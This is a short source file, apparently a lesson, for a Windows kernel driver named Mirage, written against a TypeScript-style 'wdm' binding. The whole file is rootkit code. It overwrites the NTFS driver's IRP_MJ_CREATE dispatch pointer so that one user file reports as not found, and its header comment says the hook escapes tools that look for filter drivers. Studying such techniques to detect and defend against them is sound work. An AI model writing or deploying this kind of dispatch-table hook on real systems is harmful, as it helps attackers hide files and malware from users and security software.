/*
 * Mirage: sits in the driver object of the file system.
 *
 * Requests go where MajorFunction of a driver's object leads, and any driver can write there. This one
 * looks the object of the file system up by its name and puts a routine of its own in the place of
 * IRP_MJ_CREATE. It is in no device stack: who looks for filters does not find it.
 */
import {
  DRIVER_OBJECT,
  DbgPrint,
  IO_NO_INCREMENT,
  IRP_MJ_CREATE,
  IoCompleteRequest,
  IoGetCurrentIrpStackLocation,
  KernelMode,
  MmGetSystemRoutineAddress,
  NT_SUCCESS,
  OBJECT_TYPE,
  OBJ_CASE_INSENSITIVE,
  ObDereferenceObject,
  ObReferenceObjectByName,
  PVOID,
  RTL_CONSTANT_STRING,
  RtlEqualUnicodeString,
  STATUS_OBJECT_NAME_NOT_FOUND,
  STATUS_SUCCESS,
  TRUE,
  ULONG_PTR,
  cast,
  out,
} from 'wdm'
import type { DEVICE_OBJECT, DRIVER_DISPATCH, IRP, UNICODE_STRING, NTSTATUS } from 'wdm'

const Victim = RTL_CONSTANT_STRING('\\FileSystem\\Ntfs')
const Secret = RTL_CONSTANT_STRING('\\Users\\student\\Documents\\plan.txt')

let victim: DRIVER_OBJECT = null
let original: DRIVER_DISPATCH = null

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.DriverUnload = MirageUnload
  const object = out<PVOID>()
  // The kernel exports the variable that holds the type.
  const type = MmGetSystemRoutineAddress(RTL_CONSTANT_STRING('IoDriverObjectType'))
  const status = ObReferenceObjectByName(
    Victim,
    OBJ_CASE_INSENSITIVE,
    null,
    0,
    cast(OBJECT_TYPE, type.u64[0]),
    KernelMode,
    null,
    object,
  )
  if (!NT_SUCCESS(status)) return status
  victim = cast(DRIVER_OBJECT, object.value)
  original = victim.MajorFunction[IRP_MJ_CREATE]
  victim.MajorFunction[IRP_MJ_CREATE] = MirageCreate
  DbgPrint(
    'Mirage: the file system opens files by %p\n',
    cast(PVOID, cast(ULONG_PTR, victim.MajorFunction[IRP_MJ_CREATE])),
  )
  return STATUS_SUCCESS
}

/** IRP_MJ_CREATE of the file system, as everybody calls it from now on. */
function MirageCreate(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  const file = IoGetCurrentIrpStackLocation(Irp).FileObject
  if (!RtlEqualUnicodeString(file.FileName, Secret, TRUE)) return original(DeviceObject, Irp)
  Irp.IoStatus.Status = STATUS_OBJECT_NAME_NOT_FOUND
  Irp.IoStatus.Information = 0
  IoCompleteRequest(Irp, IO_NO_INCREMENT)
  return STATUS_OBJECT_NAME_NOT_FOUND
}

function MirageUnload(DriverObject: DRIVER_OBJECT): void {
  victim.MajorFunction[IRP_MJ_CREATE] = original
  ObDereferenceObject(victim)
}
